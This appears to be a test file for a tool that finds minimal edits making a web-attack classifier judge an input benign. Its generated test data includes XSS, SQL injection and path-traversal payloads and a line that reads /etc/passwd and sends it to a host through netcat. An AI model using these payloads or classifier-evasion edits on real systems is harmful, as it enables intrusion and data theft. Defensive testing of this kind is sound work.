import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { gunzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { payloadClasses } from "../../../shared/payload.ts";
import { loadClassifier } from "../detect/classifier/payload-model.ts";
import { createRuleClassifier } from "../detect/classifier/rules.ts";
import type { ClassifierOutput, PayloadClassifier } from "../detect/payload.ts";
import { findCounterfactual, isAttack } from "./counterfactual.ts";

const shipped = loadClassifier(readFileSync(new URL("../../../resources/model/payload.bin", import.meta.url)));

/** A classifier that calls exactly the texts with `isBad` an attack. */
function scripted(isBad: (text: string) => boolean): PayloadClassifier {
  const output = (text: string): ClassifierOutput => {
    const bad = isBad(text);
    const name = bad ? "sql_injection" : "benign";
    return {
      class: name,
      confidence: 0.9,
      probabilities: payloadClasses.map((each) => (each === name ? 0.9 : each === "xss" ? 0.1 : 0)),
      family: null,
      tier: "model",
      spans: bad ? [{ start: 0, end: Math.min(4, text.length), weight: 1 }] : [],
      set: [name],
      cut: false,
    };
  };
  return { hash: "", classify: output, score: output };
}

/** The value after the edits, put together from them. */
function edited(text: string, edits: readonly { start: number; end: number; replacement: string }[]): string {
  let out = "";
  let at = 0;
  for (const { start, end, replacement } of edits) {
    expect(start).toBeGreaterThanOrEqual(at);
    expect(end).toBeGreaterThan(start);
    out += text.slice(at, start) + replacement;
    at = end;
  }
  return out + text.slice(at);
}

test.each([
  {
    why: "one character is enough",
    text: "abc'def",
    isBad: (t: string) => t.includes("'"),
    changed: 1,
    exhaustive: true,
  },
  {
    why: "two, which stand apart",
    text: "a'bcd;e",
    isBad: (t: string) => t.includes("'") || t.includes(";"),
    changed: 2,
    exhaustive: true,
  },
  { why: "a stretch", text: "xxabcdxx", isBad: (t: string) => /[abcd]/.test(t), changed: 4, exhaustive: false },
  {
    why: "replacing is enough where deleting brings other parts together",
    text: "se-lect",
    isBad: (t: string) => /se-?l/.test(t),
    changed: 1,
    exhaustive: true,
  },
  {
    why: "an escape is one character",
    text: "a%27%20b",
    isBad: (t: string) => t.includes("%27"),
    changed: 1,
    exhaustive: true,
  },
])("$why", ({ text, isBad, changed, exhaustive }) => {
  const { found } = findCounterfactual(scripted(isBad), text, "query");
  expect(found).toMatchObject({ changed, minimal: exhaustive ? "exhaustive" : "within_budget" });
  expect(edited(text, found!.edits)).toBe(found!.text);
  expect(isBad(found!.text)).toBe(false);
});

test.each([
  { why: "benign text", text: "blue cotton shirt", classifier: shipped },
  { why: "an empty value", text: "", classifier: shipped },
  { why: "what only removing everything would change", text: "a'b", classifier: scripted((t) => t !== "") },
])("shows nothing for $why", ({ text, classifier }) => {
  expect(findCounterfactual(classifier, text, "query").found).toBeNull();
});

test.each([
  { why: "plain", write: (text: string) => Buffer.from(text).toString("base64") },
  { why: "escaped for a URL", write: (text: string) => encodeURIComponent(Buffer.from(text).toString("base64")) },
  { why: "without padding", write: (text: string) => Buffer.from(text).toString("base64").replaceAll("=", "") },
])("inside Base64 ($why) the text is edited, not the digits", ({ write }) => {
  for (const attack of ["<script>alert(document.cookie)</script>", "1' union select name, password from users -- "]) {
    const value = write(attack);
    const { before, found } = findCounterfactual(shipped, value, "query");
    expect(isAttack(before)).toBe(true);
    expect(found!.source).toBe(attack);
    const digits = decodeURIComponent(found!.text);
    expect(Buffer.from(digits, "base64").toString()).toBe(edited(attack, found!.edits));
    expect(shipped.score(found!.text, { place: "query" }).class).toBe("benign");
  }
});

test("benign values near the threshold have nothing to change", () => {
  const near = ["O'Brien & sons <info>", "select a size", "1 or 2", "../images", "if (a > b) return"];
  for (const text of near) {
    const { before, found } = findCounterfactual(shipped, text, "query");
    if (!isAttack(before)) expect(found).toBeNull();
  }
});

const generated = Array.from({ length: 60 }, (_, i) => [
  `${i}' or ${i}=${i} -- `,
  `-${i} union select ${i},name,pw from users_${i}`,
  `<img src=x onerror=alert(${i})>`,
  `;cat /etc/passwd${i}|nc 10.0.0.${i} 4444`,
  `../../../../var/www/${i}/../../etc/shadow`,
  encodeURIComponent(`"><svg/onload=confirm(${i})>`),
]).flat();

/** Attacks of the data folder where it is there, else generated ones: the same rows each time. */
function attacks(count: number): string[] {
  const file = join(process.env.SENTINEL_DATA ?? "../shared/data", "payloads.jsonl.gz");
  if (!existsSync(file)) return generated.slice(0, count);
  const rows = gunzipSync(readFileSync(file)).toString().trim().split("\n");
  const own = rows.filter((row) => !row.includes('"label": "benign"'));
  const step = Math.max(1, Math.floor(own.length / count));
  return own.filter((_, i) => i % step === 0).map((row) => (JSON.parse(row) as { payload: string }).payload);
}

describe.each([
  { name: "fitted model", classifier: shipped, count: 100, invented: 18 },
  { name: "rules", classifier: createRuleClassifier(), count: 3, invented: 6 },
])("$name", ({ classifier, count, invented }) => {
  test("every edit that is shown flips, is smaller than the value, and comes out the same again", () => {
    let shown = 0;
    let judged = 0;
    const values = [...attacks(count * Number(process.env.TORTURE ?? 1)), ...generated.slice(0, invented)];
    for (const [i, text] of values.entries()) {
      const { before, found, scored } = findCounterfactual(classifier, text, "query");
      if (!isAttack(before)) {
        expect(found).toBeNull();
        continue;
      }
      judged++;
      expect(scored).toBeLessThan(1100);
      if (found === null) continue;
      shown++;
      if (found.source === text) expect(edited(text, found.edits)).toBe(found.text);
      expect(found.text.trim()).not.toBe("");
      const again = classifier.score(found.text, { place: "query" });
      expect(again.class).toBe("benign");
      expect(isAttack(again)).toBe(false);
      if (i % 20 === 0) expect(findCounterfactual(classifier, text, "query").found).toEqual(found);
    }
    expect(shown).toBeGreaterThan(judged * 0.85);
  });
});

test("a very long value costs no more than others", () => {
  const text = `${"lorem ipsum dolor ".repeat(3000)}' union select pw from users --`;
  const { before, found, scored } = findCounterfactual(shipped, text, "form");
  expect(isAttack(before)).toBe(true);
  expect(scored).toBeLessThan(5);
  if (found !== null) expect(isAttack(shipped.score(found.text, { place: "form" }))).toBe(false);
});
